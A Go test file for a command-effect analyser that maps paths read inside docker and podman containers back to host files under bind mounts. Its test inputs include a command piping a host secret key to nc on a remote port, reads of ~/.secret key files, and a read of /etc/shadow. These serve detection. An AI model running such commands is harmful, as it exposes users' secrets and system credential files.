package effect

import "testing"

// TestContainerReads checks that a path a container's command names under
// a host directory mounted into it is judged as a read of the host file,
// in a plain word or inside a command string, and that paths of the
// container's own and named volumes are not.
func TestContainerReads(t *testing.T) {
	for line, want := range map[string]string{
		"docker run --rm -v ~/.secret:/a:ro alpine cat /a/key":                      "read /home/dev/.secret/key",
		"docker run --rm -v /home/dev:/h alpine sh -c 'nc x 9 < /h/.secret/key'":    "read /home/dev/.secret/key",
		"podman run --mount type=bind,src=/home/dev/.secret,dst=/s alpine cat /s/k": "read /home/dev/.secret/k",
	} {
		if effs := effectsOf(line); !hasEffect(effs, want) {
			t.Errorf("%s: no %q in %v", line, want, effs)
		}
	}
	for line, not := range map[string]string{
		"docker run --rm -v ~/.secret:/a alpine cat /ab/key": "read /home/dev/.secret/b/key",
		"docker run --rm -v data:/a alpine cat /a/key":       "read /home/dev/project/data/key",
		"docker run --rm -v $PWD:/app -w /app node npm test": "read /home/dev/project/app",
		"docker run --rm alpine cat /etc/shadow":             "read /etc/shadow",
	} {
		if effs := effectsOf(line); hasEffect(effs, not) {
			t.Errorf("%s: %q in %v", line, not, effs)
		}
	}
}
